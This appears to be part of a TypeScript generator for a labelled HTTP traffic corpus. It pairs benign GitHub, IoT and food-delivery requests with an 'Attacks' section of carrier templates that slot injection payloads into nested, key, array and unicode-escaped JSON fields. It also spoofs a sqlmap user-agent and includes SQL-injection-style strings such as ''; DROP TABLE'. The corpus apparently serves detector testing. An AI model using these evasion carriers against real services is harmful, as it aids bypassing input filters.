        ? `${pick(INLINE_COMMENTS)}\n\n${F}suggestion\n${pick(["  const where = filters.map((f, i) => `${f.col} = $${i + 1}`).join(' AND ');", "  execFile('git', ['rev-parse', '--short', 'HEAD'], cb);", '  if (!path.resolve(root, name).startsWith(root + path.sep)) throw new Error("bad path");'])}\n${F}`
        : pick(INLINE_COMMENTS),
      commit_id: hex(40),
      path: pick([
        'src/db/query.ts',
        'src/storage/local.ts',
        'scripts/release.sh',
        'deploy/helm/values.yaml',
        'src/main/java/com/example/crm/ContactService.java',
      ]),
      line: int(5, 300),
      side: 'RIGHT',
    }),
  }),
  () => ({
    kind: 'pr-review',
    method: 'POST',
    path: `/api/v3/repos/${pick(REPOS)}/pulls/${int(1, 900)}/reviews`,
    headers: headers('tool', { ct: JSON_CT, auth: 'token', accept: 'application/vnd.github+json' }),
    body: json({
      event: pick(['APPROVE', 'REQUEST_CHANGES', 'COMMENT']),
      body: pick(INLINE_COMMENTS),
      comments: [{ path: 'src/db/query.ts', line: int(5, 80), body: pick(INLINE_COMMENTS) }],
    }),
  }),
  () => {
    const files = [];
    for (let i = 0; i < int(1, 3); i++) {
      const [lang, code] = pick(SNIPPETS);
      files.push({
        filename: `snippet-${i + 1}.${lang === 'bash' || lang === 'sh' ? 'sh' : lang}`,
        content: code,
      });
    }
    return {
      kind: 'code-upload',
      method: 'POST',
      path: '/api/v3/gists',
      headers: headers('tool', { ct: JSON_CT, auth: 'token', accept: 'application/vnd.github+json' }),
      body: json({
        description: pick(['repro for #1234', 'handy scripts', 'PG16 union issue', '']),
        public: chance(0.5),
        files,
      }),
    };
  },
  () => {
    const [lang, code] = pick(SNIPPETS);
    return {
      kind: 'code-upload',
      method: 'POST',
      path: '/api/v3/playground/runs',
      headers: headers('browser', { ct: JSON_CT, origin: FORUM_ORIGIN }),
      body: json({ language: lang, version: 'latest', code, stdin: '', timeout_ms: 5000 }),
    };
  },
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/api/graphql',
    headers: headers('tool', { ct: JSON_CT, auth: 'bearer' }),
    body: json({
      query:
        'mutation AddComment($subjectId: ID!, $body: String!) {\n  addComment(input: { subjectId: $subjectId, body: $body }) {\n    commentEdge { node { id url } }\n  }\n}',
      variables: { subjectId: `I_kwDO${token(14)}`, body: issueMarkdown() },
    }),
  }),
  () => {
    const q = pick([
      'is:issue is:open label:"good first issue"',
      'repo:acme/api "SELECT * FROM" in:body',
      'NullPointerException ContactService',
      'is:pr is:merged author:siobhan-oc sort:updated-desc',
      '"rm -rf node_modules" in:comments',
      'union all postgres 16',
      'kubectl exec "/bin/sh"',
      "'; DROP TABLE' in:title",
    ]);
    return {
      kind: 'search',
      method: 'GET',
      path: `/api/v3/search/issues?${qs([
        ['q', q],
        ['per_page', pick(['30', '50'])],
        ['page', String(int(1, 4))],
      ])}`,
      headers: headers('browser', { origin: FORUM_ORIGIN, accept: 'application/vnd.github+json' }),
      body: '',
    };
  },
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/hooks/forge/ci',
    headers: {
      'user-agent': `GitHub-Hookshot/${hex(7)}`,
      'content-type': JSON_CT,
      'x-github-event': 'issue_comment',
      'x-github-delivery': uuid(),
      'x-hub-signature-256': `sha256=${hex(64)}`,
    },
    body: json({
      action: 'created',
      issue: {
        number: int(1, 4000),
        title: 'Query returns 0 rows after upgrading to PG 16 (UNION ALL)',
        state: 'open',
      },
      comment: {
        id: int(1e8, 9e8),
        body: issueMarkdown(),
        user: { login: pick(['mkobayashi', 'siobhan-oc', 'dependabot[bot]']) },
      },
      repository: { full_name: pick(REPOS) },
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/api/v3/repos/${pick(REPOS)}/issues/comments/${int(1e6, 9e6)}`,
    headers: headers('browser', { ct: JSON_CT, origin: FORUM_ORIGIN, accept: 'application/vnd.github+json' }),
    body: json({ body: `${issueMarkdown()}\n\n_Edit: fixed the snippet._` }),
  }),
];

/* ------------------------------------------------------------------------------------------------------
 * Smart home / IoT telemetry
 * ---------------------------------------------------------------------------------------------------- */

const DEVICES = [
  "Kid's room lamp",
  "Garage door (don't close remotely!)",
  'Living room – TV backlight',
  'Büro Heizung',
  'Drop-in sensor #3',
  'Küche / Kühlschrank',
  'Porch light & doorbell',
  'Select-a-Temp thermostat',
  '寝室のエアコン',
  'Bathroom fan (sleep mode)',
  'Union St. flat – boiler',
  'Shed "workshop" plug',
];
const METRICS = [
  'temperature_c',
  'humidity_pct',
  'power_w',
  'co2_ppm',
  'battery_pct',
  'rssi_dbm',
  'door_open',
];
const FIRMWARE_NOTES = [
  'v2.4.1: fixes a reboot loop when Wi-Fi drops; adds scheduled sleep mode (default 23:00–07:00). In eco mode sensors sleep 8 hours between reports.',
  'v3.0.0 (BREAKING): drop support for the v1 pairing protocol; select "Legacy" in the app to keep old hubs working.',
  'v1.9.7: OTA now resumes after power loss; exec of scheduled scenes is 200 ms faster; union of group + room rules is evaluated correctly.',
  'Hotfix 2.4.2 — thermostat would report 0 °C when the sensor was asleep. Where the hub runs <2.3, update the hub first.',
  'v4.1: neue Zeitpläne, Fehlerbehebung bei der Verbindung; Gerät startet nach dem Update einmal neu.',
];
const iot: (() => Req)[] = [
  () => {
    const lines: string[] = [];
    const dev = `dev_${token(10)}`;
    const n = int(4, 16);
    for (let i = 0; i < n; i++) {
      const metric = pick(METRICS);
      const value = metric === 'door_open' ? chance(0.3) : Number((rnd() * 100).toFixed(2));
      lines.push(json({ ts: iso(i), device_id: dev, metric, value, seq: 1000 + i }));
    }
    return {
      kind: 'ndjson',
      method: 'POST',
      path: '/iot/v1/telemetry:batch',
      headers: headers('device', { ct: pick(['application/x-ndjson', 'application/jsonl']) }),
      body: `${lines.join('\n')}\n`,
    };
  },
  () => ({
    kind: 'rest-write',
    method: 'PATCH',
    path: `/iot/v1/devices/dev_${token(10)}`,
    headers: headers('mobile', { ct: JSON_CT }),
    body: json({
      name: pick(DEVICES),
      room: pick(['Living room', 'Kitchen', 'Garage', 'Kinderzimmer', 'Bedroom']),
      icon: pick(['lamp', 'plug', 'thermostat']),
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/iot/v1/firmware/${pick(['thermo-x2', 'plug-mini', 'hub-gen3'])}/releases`,
    headers: headers('tool', { ct: JSON_CT, auth: 'apikey' }),
    body: json({
      version: `${int(1, 4)}.${int(0, 9)}.${int(0, 9)}`,
      channel: pick(['stable', 'beta']),
      notes_md: pick(FIRMWARE_NOTES),
      sha256: hex(64),
      size_bytes: int(400000, 2000000),
      url: `https://fw.homenest.io/releases/${hex(12)}.bin`,
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/iot/v1/automations',
    headers: headers('mobile', { ct: JSON_CT }),
    body: json({
      name: pick(['Night mode', 'Leave home', 'Drop temp when window open', 'Wake-up light']),
      trigger: pick([
        { type: 'time', at: '23:00', days: ['mon', 'tue', 'wed', 'thu', 'sun'] },
        { type: 'state', entity: 'binary_sensor.window_kitchen', to: 'on', for: '00:02:00' },
      ]),
      condition: pick([
        { type: 'template', value_template: "{{ states('sensor.living_room_temperature') | float > 21.5 }}" },
        { type: 'expression', expr: 'temperature > 25 && humidity < 40 || mode == "away"' },
        { type: 'sun', after: 'sunset', after_offset: '-00:30:00' },
      ]),
      actions: [
        {
          service: 'climate.set_temperature',
          target: { entity_id: 'climate.buro_heizung' },
          data: { temperature: 17 },
        },
        { service: 'notify.mobile_app', data: { message: 'Night mode on — sleep well 😴' } },
      ],
    }),
  }),
  () => {
    const params: [string, string][] = [
      ['device_id', `dev_${token(10)}`],
      ['metric', pick(METRICS)],
      ['from', iso(-60 * 24)],
      ['to', iso(0)],
      ['agg', pick(['avg', 'max', 'p95'])],
      ['interval', pick(['5m', '1h', '1d'])],
    ];
    return {
      kind: 'search',
      method: 'GET',
      path: `/iot/v1/telemetry?${qs(params)}`,
      headers: headers('mobile'),
      body: '',
    };
  },
  () => {
    const data = json({
      deviceId: `dev_${token(10)}`,
      event: pick(['offline', 'battery_low', 'ota_done']),
      at: isoRand(),
      detail: pick(['Wi-Fi dropped', 'battery 9%', 'ota 2.4.1 ok']),
    });
    return {
      kind: 'webhook',
      method: 'POST',
      path: '/iot/hooks/pubsub',
      headers: {
        'user-agent': 'APIs-Google; (+https://developers.google.com/webmasters/APIs-Google.html)',
        'content-type': JSON_CT,
        authorization: `Bearer ${jwt('pubsub-push@homenest.iam.gserviceaccount.com')}`,
      },
      body: json({
        message: {
          data: b64(data),
          messageId: digits(16),
          publishTime: isoRand(),
          attributes: { region: 'europe-west3' },
        },
        subscription: 'projects/homenest-prod/subscriptions/device-events-push',
      }),
    };
  },
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/iot/v1/devices/dev_${token(10)}/shadow`,
    headers: headers('device', { ct: JSON_CT }),
    body: json({
      state: {
        reported: {
          fw: '2.4.1',
          uptime_s: int(100, 900000),
          wifi: {
            ssid: pick(['FRITZ!Box 7590 XY', "Kwame's iPhone", 'Vodafone-3F2A', 'eduroam']),
            rssi: -int(40, 85),
          },
          sleep: { enabled: true, hours: 8 },
        },
      },
      version: int(1, 9999),
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/iot/v1/devices/provision',
    headers: headers('device', { ct: FORM_CT, auth: 'none' }),
    body: form([
      ['serial', `HN-${token(4).toUpperCase()}-${digits(6)}`],
      ['mac', `24:6f:28:${hex(2)}:${hex(2)}:${hex(2)}`],
      ['fw', '2.4.1'],
      ['claim_code', token(8).toUpperCase()],
      ['name', pick(DEVICES)],
    ]),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/iot/v1/automations/${uuid()}`,
    headers: headers('mobile'),
    body: '',
  }),
];

/* ------------------------------------------------------------------------------------------------------
 * Food delivery
 * ---------------------------------------------------------------------------------------------------- */

const INSTRUCTIONS = [
  'drop at the back door; ring twice',
  'No onions please — allergic!!',
  'Leave it with the concierge (ask for José)',
  "Call when outside, buzzer 4B doesn't work",
  'Extra spicy 🌶️🌶️🌶️',
  "Please don't ring the bell, baby sleeping 😴",
  'Gate code is #1234* then press the bell',
  'Cut the pizza into 8 slices & add 2 forks',
  'Select the ripest avocados pls 🥑',
  'Where the sign says "Deliveries", go left, 3rd floor',
  'Sauce on the side / no cutlery',
  'Bitte beim Nachbarn (Müller, EG links) abgeben, falls niemand öffnet.',
  "If we're not home just leave it at the door, it's fine <3",
  'Union St entrance is closed, use the one on Drop Lane',
  'ring 2x, dog is friendly 🐶',
  '',
];
const REVIEWS = [
  '10/10 would order again 🍕🔥',
  'Pad thai was 😋 but delivery took 1h+ -- driver got lost.',
  "Where's my drink?? Ordered 2, got 1 :(",
  'Best ramen in town. The egg was perfect 🥚👌',
  'Food was cold. Select a different courier company please.',
  'Tout était parfait, merci ! 🥐',
  'Sehr lecker, aber zu wenig Soße. 4/5',
  'The "drop at the back door" note was ignored again and my food sat at the front for 20 min 😤',
  'Portion size dropped a lot since last month. Still tasty.',
  'おいしかったです！また頼みます🍣',
  'I asked for no cheese & got extra cheese. 1 star.',
  'Ordered at 11pm, arrived 11:25pm, still hot. Impressive 👏',
];
const MENU = [
  ['Margherita', 1090],
  ['Pad Thai (chicken)', 1350],
  ['Tonkotsu Ramen', 1490],
  ['Fish & Chips', 1280],
  ['Falafel Wrap', 850],
  ['Pierogi ruskie (8 pcs)', 990],
  ['Bibimbap', 1390],
  ['Açaí bowl', 920],
] as const;
const food: (() => Req)[] = [
  () => {
    const items = [];
    for (let i = 0; i < int(1, 4); i++) {
      const [name, price] = pick(MENU);
      items.push({
        sku: slug(name),
        name,
        qty: int(1, 3),
        unit_price_cents: price,
        options: chance(0.4) ? [{ group: 'Spice', choice: pick(['mild', 'medium', 'hot 🔥']) }] : [],
        notes: chance(0.3) ? pick(['no onions', 'extra sauce', 'well done']) : '',
      });
    }
    return {
      kind: 'rest-write',
      method: 'POST',
      path: '/food/v3/orders',
      headers: headers('mobile', { ct: JSON_CT, extra: { 'idempotency-key': uuid() } }),
      body: json({
        restaurant_id: `rst_${token(8)}`,
        items,
        delivery: {
          address: {
            line1: pick([
              '12 Union Street',
              'Torstraße 49, 3. OG',
              '221B Baker St',
              'Rua Augusta 1500, apto 42',
            ]),
            city: pick(['London', 'Berlin', 'São Paulo']),
            lat: 51.5 + rnd() / 10,
            lng: -0.12 + rnd() / 10,
          },
          instructions: pick(INSTRUCTIONS),
          leave_at_door: chance(0.5),
        },
        tip_cents: pick([0, 100, 200, 350]),
        promo_code: chance(0.2) ? pick(['WELCOME10', 'FREEDEL']) : null,
        payment_method_id: `pm_${token(24)}`,
      }),
    };
  },
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/food/v3/orders/ord_${token(10)}/review`,
    headers: headers('mobile', { ct: JSON_CT }),
    body: json({
      rating: int(1, 5),
      text: pick(REVIEWS),
      tags: pick([['fast', 'hot'], ['missing_item'], ['cold'], []]),
      courier_rating: int(1, 5),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'PATCH',
    path: `/food/v3/orders/ord_${token(10)}`,
    headers: headers('mobile', { ct: JSON_CT }),
    body: json({ delivery: { instructions: pick(INSTRUCTIONS) } }),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/food/graphql',
    headers: headers('mobile', {
      ct: JSON_CT,
      extra: { 'apollographql-client-name': 'fooddash-ios', 'apollographql-client-version': '7.14.0' },
    }),
    body: json({
      operationName: 'NearbyRestaurants',
      query:
        'query NearbyRestaurants($lat: Float!, $lng: Float!, $filter: RestaurantFilter, $first: Int) {\n  restaurants(near: { lat: $lat, lng: $lng }, filter: $filter, first: $first) {\n    edges { node { id name rating etaMinutes cuisines priceLevel } }\n  }\n}',
      variables: {
        lat: 52.52 + rnd() / 10,
        lng: 13.4 + rnd() / 10,
        filter: {
          cuisines: pick([['thai'], ['pizza', 'italian'], ['japanese']]),
          openNow: true,
          query: pick(['pad thai', 'fish & chips', "mama's kitchen", 'açaí', null]),
        },
        first: 20,
      },
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/food/v3/search?${qs([
      [
        'q',
        pick([
          'pad thai',
          '"fish & chips"',
          "mcdonald's",
          'pierogi',
          'ramen near me',
          'vegan -cheese',
          'sushi 🍣',
        ]),
      ],
      ['cuisine', pick(['thai', 'british', 'polish', 'japanese'])],
      ['price', pick(['$', '$$', '$$$'])],
      ['sort', pick(['-rating', 'eta', 'distance'])],
      ['open_now', 'true'],
    ])}`,
    headers: headers('browser', { origin: 'https://www.fooddash.app', auth: 'cookie' }),
    body: '',
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/food/support/contact',
    headers: headers('browser', {
      ct: FORM_CT,
      origin: 'https://www.fooddash.app',
      accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
    }),
    body: form([
      ['name', pick(PEOPLE).slice(0, 2).join(' ')],
      ['email', `${token(6).toLowerCase()}@gmail.com`],
      ['order', `ord_${token(10)}`],
      ['topic', pick(['missing_item', 'late', 'refund', 'other'])],
      [
        'message',
        pick(
          REVIEWS.concat([
            'Driver left it at the wrong door again. I wrote "drop at the back door; ring twice" in the notes!',
            'Please delete my account and all data (GDPR Art. 17).',
          ]),
        ),
      ],
    ]),
  }),
  () => {
    const rows = ['name,description,price,category,allergens'];
    for (const [name, price] of MENU.slice(0, int(3, 8)))
      rows.push(
        `"${name}","${pick(['House special; served with rice', 'Our classic — since 1998', 'Contains nuts & sesame'])}",${(price / 100).toFixed(2)},${pick(['Mains', 'Starters'])},"${pick(['gluten;egg', 'nuts;sesame', ''])}"`,
      );
    const m = multipart([
      { name: 'menu', filename: 'menu_winter_2026.csv', type: 'text/csv', value: rows.join('\n') },
      { name: 'replace_existing', value: 'true' },
      { name: 'effective_from', value: iso(60 * 24 * 3).slice(0, 10) },
    ]);
    return {
      kind: 'multipart',
      method: 'POST',
      path: `/food/partner/v1/restaurants/rst_${token(8)}/menu/import`,
      headers: headers('browser', { ct: m.ct, origin: 'https://partners.fooddash.app' }),
      body: m.body,
    };
  },
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/food/hooks/stripe',
    headers: {
      'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
      'content-type': JSON_UTF8,
      'stripe-signature': `t=${1795600000 + int(0, 90000)},v1=${hex(64)}`,
    },
    body: jsonPretty({
      id: `evt_${token(24)}`,
      object: 'event',
      api_version: '2024-06-20',
      created: 1795600000 + int(0, 90000),
      type: pick(['payment_intent.succeeded', 'charge.refunded', 'payment_intent.payment_failed']),
      data: {
        object: {
          id: `pi_${token(24)}`,
          object: 'payment_intent',
          amount: int(900, 6000),
          currency: 'eur',
          description: `FoodDash order ord_${token(10)}`,
          metadata: { order_id: `ord_${token(10)}`, instructions: pick(INSTRUCTIONS) },
        },
      },
      livemode: true,
    }),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/food/v3/me/addresses/adr_${token(10)}`,
    headers: headers('mobile'),
    body: '',
  }),
  () => ({
    kind: 'rest-write',
    method: 'PUT',
    path: '/food/v3/me/preferences',
    headers: headers('mobile', { ct: JSON_CT }),
    body: json({
      dietary: pick([['vegetarian'], ['halal'], ['gluten_free', 'no_pork'], []]),
      default_instructions: pick(INSTRUCTIONS),
      notifications: { push: true, sms: false, email_offers: chance(0.5) },
      language: pick(['en', 'de', 'pt-BR', 'ja']),
    }),
  }),
];

/* ------------------------------------------------------------------------------------------------------
 * Clean corpus assembly
 * ---------------------------------------------------------------------------------------------------- */

function roundRobin(gens: readonly (() => Req)[], n: number, out: Req[]): void {
  for (let i = 0; i < n; i++) out.push((gens[i % gens.length] as () => Req)());
}

const cleanReqs: Req[] = [];
roundRobin(crm, 64, cleanReqs);
roundRobin(cms, 60, cleanReqs);
roundRobin(legal, 56, cleanReqs);
roundRobin(forum, 84, cleanReqs);
// Extra weight on code-bearing comments and NDJSON batches, the categories that matter most here.
roundRobin([forum[0], forum[2], forum[1]] as (() => Req)[], 18, cleanReqs);
roundRobin(iot, 50, cleanReqs);
roundRobin([iot[0]] as (() => Req)[], 10, cleanReqs);
roundRobin(food, 60, cleanReqs);

/* ------------------------------------------------------------------------------------------------------
 * Attacks
 * ---------------------------------------------------------------------------------------------------- */

type Payload = string | { readonly [k: string]: unknown };
const text = (v: Payload): string => (typeof v === 'string' ? v : JSON.stringify(v));
const obj = (s: string): { [k: string]: unknown } => JSON.parse(s) as { [k: string]: unknown };

/** Bracket-notation pairs (qs / PHP / Rails style) for a payload under a field name. */
function flat(prefix: string, v: unknown): [string, string][] {
  if (v === null || typeof v !== 'object') return [[prefix, v === null ? '' : String(v)]];
  const out: [string, string][] = [];
  if (Array.isArray(v)) {
    for (let i = 0; i < v.length; i++) out.push(...flat(`${prefix}[${i}]`, v[i]));
  } else
    for (const k of Object.keys(v))
      out.push(...flat(prefix ? `${prefix}[${k}]` : k, (v as Record<string, unknown>)[k]));
  return out;
}

/** JSON text where every non-alphanumeric character of every string (and key) is a `\uXXXX` escape. */
function escJson(v: unknown, all: boolean): string {
  if (typeof v === 'string') {
    let s = '"';
    for (const ch of v) {
      const c = ch.codePointAt(0) as number;
      if (!all && /[A-Za-z0-9 ]/.test(ch)) s += ch;
      else if (c > 0xffff) s += JSON.stringify(ch).slice(1, -1);
      else s += `\\u${c.toString(16).padStart(4, '0')}`;
    }
    return `${s}"`;
  }
  if (Array.isArray(v)) return `[${v.map((x) => escJson(x, all)).join(',')}]`;
  if (v !== null && typeof v === 'object')
    return `{${Object.keys(v)
      .map((k) => `${escJson(k, all)}:${escJson((v as Record<string, unknown>)[k], all)}`)
      .join(',')}}`;
  return JSON.stringify(v);
}

const HOLE = '\u0000HOLE\u0000';
/** Serialise `shape` (holding HOLE where the payload goes) with the payload written as escaped JSON. */
function withEscaped(shape: unknown, v: Payload, all: boolean): string {
  return JSON.stringify(shape).replace(JSON.stringify(HOLE), () => escJson(v, all));
}

const SQLMAP_UA = 'sqlmap/1.8.11#stable (https://sqlmap.org)';
const attackUa = (family: string): Record<string, string> =>
  family === 'sql' && chance(0.25) ? { 'user-agent': SQLMAP_UA } : {};

type Carrier = (v: Payload, family: string) => Req;

const CARRIERS: Record<string, readonly Carrier[]> = {
  plain: [
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/crm/v2/contacts',
      headers: headers('browser', { ct: JSON_CT, origin: CRM_ORIGIN, extra: attackUa(f) }),
      body: json({ first_name: 'Test', last_name: v, email: 'test@example.com', company: 'Acme' }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'PATCH',
      path: `/food/v3/orders/ord_${token(10)}`,
      headers: headers('mobile', { ct: JSON_CT, extra: attackUa(f) }),
      body: json({ delivery: { instructions: v } }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/food/v3/auth/login',
      headers: headers('mobile', { ct: JSON_CT, auth: 'none', extra: attackUa(f) }),
      body: json({ email: 'admin@fooddash.app', password: v }),
    }),
    (v, f) => ({
      kind: 'prose',
      method: 'POST',
      path: `/legal/api/v1/contracts/ctr_${token(12)}/comments`,
      headers: headers('browser', { ct: JSON_CT, origin: LEGAL_ORIGIN, extra: attackUa(f) }),
      body: json({ clause_id: `cl_${token(10)}`, text: v }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'PATCH',
      path: `/iot/v1/devices/dev_${token(10)}`,
      headers: headers('mobile', { ct: JSON_CT, extra: attackUa(f) }),
      body: json({ name: v, room: 'Kitchen' }),
    }),
    (v, f) => ({
      kind: 'issue-comment',
      method: 'POST',
      path: `/api/v3/repos/${pick(REPOS)}/issues`,
      headers: headers('tool', { ct: JSON_CT, auth: 'token', extra: attackUa(f) }),
      body: json({ title: v, body: 'see title', labels: ['bug'] }),
    }),
    (v, f) => ({
      kind: 'webhook',
      method: 'POST',
      path: '/crm/v2/webhooks',
      headers: headers('tool', { ct: JSON_CT, auth: 'apikey', extra: attackUa(f) }),
      body: json({ url: v, events: ['contact.created'], secret: token(24) }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/cms/api/media/import',
      headers: headers('browser', { ct: JSON_CT, origin: CMS_ORIGIN, extra: attackUa(f) }),
      body: json({ source_url: v, caption: 'Wire photo', credit: 'Reuters' }),
    }),
  ],
  nested: [
    (v, f) => ({
      kind: 'jsonapi',
      method: 'PATCH',
      path: `/crm/jsonapi/accounts/${uuid()}`,
      headers: headers('browser', { ct: JSONAPI, accept: JSONAPI, origin: CRM_ORIGIN, extra: attackUa(f) }),
      body: json({
        data: {
          type: 'accounts',
          id: uuid(),
          attributes: {
            name: 'Nordlicht Energie AG',
            billing_address: { line1: 'Königsallee 60', city: v, country: 'DE' },
          },
        },
      }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/food/v3/orders',
      headers: headers('mobile', { ct: JSON_CT, extra: attackUa(f) }),
      body: json({
        restaurant_id: `rst_${token(8)}`,
        items: [{ sku: 'margherita', qty: 1 }],
        delivery: { address: { line1: '12 Union Street', city: 'London', extra: { floor: '3', note: v } } },
        tip_cents: 100,
      }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/iot/v1/automations',
      headers: headers('mobile', { ct: JSON_CT, extra: attackUa(f) }),
      body: json({
        name: 'Night mode',
        trigger: { type: 'time', at: '23:00' },
        actions: [{ service: 'notify.mobile_app', data: { message: 'ok', target: { device: v } } }],
      }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: `/iot/v1/devices/dev_${token(10)}/shadow`,
      headers: headers('device', { ct: JSON_CT, extra: attackUa(f) }),
      body: json({ state: { reported: { fw: '2.4.1', wifi: { ssid: v, rssi: -60 } } }, version: 12 }),
    }),
    (v, f) => ({
      kind: 'merge-patch',
      method: 'PATCH',
      path: `/legal/api/v1/contracts/ctr_${token(12)}`,
      headers: headers('browser', { ct: MERGE, origin: LEGAL_ORIGIN, extra: attackUa(f) }),
      body: json({ counterparty_signatory: { name: "Siobhán O'Connor", title: v } }),
    }),
    (v, f) => ({
      kind: 'cms-html',
      method: 'PUT',
      path: `/cms/api/articles/${int(100000, 999999)}`,
      headers: headers('browser', { ct: JSON_CT, origin: CMS_ORIGIN, extra: attackUa(f) }),
      body: json({
        headline: 'Select committee grills energy bosses',
        seo: { og: { image: { url: v, alt: 'photo' } } },
        status: 'draft',
      }),
    }),
  ],
  key: [
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/crm/v2/contacts/search',
      headers: headers('browser', { ct: JSON_CT, origin: CRM_ORIGIN, extra: attackUa(f) }),
      body: json({ filter: typeof v === 'string' ? { [v]: 'lead' } : v, page: { size: 50 } }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'PATCH',
      path: `/crm/v2/contacts/${uuid()}`,
      headers: headers('browser', { ct: JSON_CT, origin: CRM_ORIGIN, extra: attackUa(f) }),
      body: json({ custom_fields: typeof v === 'string' ? { [v]: 'yes' } : v }),
    }),
    (v, f) => ({
      kind: 'search',
      method: 'POST',
      path: '/iot/v1/telemetry/query',
      headers: headers('mobile', { ct: JSON_CT, extra: attackUa(f) }),
      body: json({
        device_id: `dev_${token(10)}`,
        sort: typeof v === 'string' ? { [v]: -1 } : v,
        limit: 100,
      }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'PUT',
      path: '/food/v3/me/preferences',
      headers: headers('mobile', { ct: JSON_CT, extra: attackUa(f) }),
      body: json({ notifications: typeof v === 'string' ? { push: true, [v]: true } : v, language: 'en' }),
    }),
  ],
  array: [
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/crm/v2/contacts',
      headers: headers('browser', { ct: JSON_CT, origin: CRM_ORIGIN, extra: attackUa(f) }),
      body: json({
        first_name: 'Lan',
        last_name: 'Nguyễn',
        email: 'lan@acme-logistics.nl',
        tags: ['trade-fair-2026', v, 'iot'],
      }),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/food/v3/orders',
      headers: headers('mobile', { ct: JSON_CT, extra: attackUa(f) }),
      body: json({
        restaurant_id: `rst_${token(8)}`,
        items: [
          { sku: 'pad-thai', qty: 1, notes: '' },
          { sku: 'spring-rolls', qty: 2, notes: v },
        ],
        tip_cents: 0,
      }),
    }),
    (v, f) => ({
      kind: 'ndjson',
      method: 'POST',
      path: '/iot/v1/devices:bulkRename',
      headers: headers('mobile', { ct: JSON_CT, extra: attackUa(f) }),
      body: json([
        { id: `dev_${token(10)}`, name: 'Porch light' },
        { id: `dev_${token(10)}`, name: v },
      ]),
    }),
    (v, f) => ({
      kind: 'json-patch',
      method: 'PATCH',
      path: `/legal/api/v1/contracts/ctr_${token(12)}`,
      headers: headers('browser', { ct: JPATCH, origin: LEGAL_ORIGIN, extra: attackUa(f) }),
      body: json([
        { op: 'test', path: '/version', value: 7 },
        { op: 'replace', path: '/clauses/3/text', value: v },
      ]),
    }),
    (v, f) => ({
      kind: 'pr-review',
      method: 'POST',
      path: `/api/v3/repos/${pick(REPOS)}/pulls/${int(1, 900)}/reviews`,
      headers: headers('tool', { ct: JSON_CT, auth: 'token', extra: attackUa(f) }),
      body: json({
        event: 'COMMENT',
        body: 'see inline',
        comments: [
          { path: 'README.md', line: 3, body: 'typo' },
          { path: v, line: 1, body: 'x' },
        ],
      }),
    }),
  ],
  'unicode-escape': [
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/crm/v2/contacts',
      headers: headers('tool', { ct: JSON_CT, auth: 'apikey', extra: attackUa(f) }),
      body: withEscaped(
        { first_name: 'Jean-Luc', last_name: HOLE, email: 'jl@cafe-lumiere.fr' },
        v,
        chance(0.4),
      ),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'PATCH',
      path: `/food/v3/orders/ord_${token(10)}`,
      headers: headers('tool', { ct: JSON_CT, extra: attackUa(f) }),
      body: withEscaped({ delivery: { instructions: HOLE } }, v, chance(0.4)),
    }),
    (v, f) => ({
      kind: 'graphql',
      method: 'POST',
      path: '/legal/graphql',
      headers: headers('tool', { ct: JSON_CT, extra: attackUa(f) }),
      body: withEscaped(
        {
          query:
            'mutation ApproveClause($clauseId: ID!, $decision: Decision!, $comment: String) { approveClause(clauseId: $clauseId, decision: $decision, comment: $comment) { clause { id } } }',
          variables: { clauseId: 'cl_8fKq2', decision: 'APPROVE', comment: HOLE },
        },
        v,
        chance(0.4),
      ),
    }),
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/iot/v1/automations',
      headers: headers('tool', { ct: JSON_CT, extra: attackUa(f) }),
      body: withEscaped({ name: 'Leave home', condition: HOLE }, v, chance(0.4)),
    }),
    (v, f) => ({
      kind: 'cms-html',
      method: 'POST',
      path: `/cms/api/liveblogs/${int(1000, 9999)}/entries`,
      headers: headers('tool', { ct: JSON_CT, extra: attackUa(f) }),
      body: withEscaped({ title: '9.42am', html: HOLE, pinned: false }, v, chance(0.4)),
    }),
  ],
  'json-in-string': [
    (v, f) => ({
      kind: 'rest-write',
      method: 'POST',
      path: `/crm/v2/contacts/${uuid()}/notes`,
      headers: headers('browser', { ct: JSON_CT, origin: CRM_ORIGIN, extra: attackUa(f) }),
      body: json({ body: 'Imported from legacy CRM', metadata: json({ legacy_id: 4412, owner: v }) }),
    }),
    (v, f) => ({
      kind: 'webhook',
      method: 'POST',
      path: '/food/hooks/courier',
      headers: {
        'user-agent': 'Go-http-client/2.0',
        'content-type': JSON_CT,
        'x-courier-signature': hex(64),
        ...attackUa(f),
      },
      body: json({
        event: 'delivery.updated',
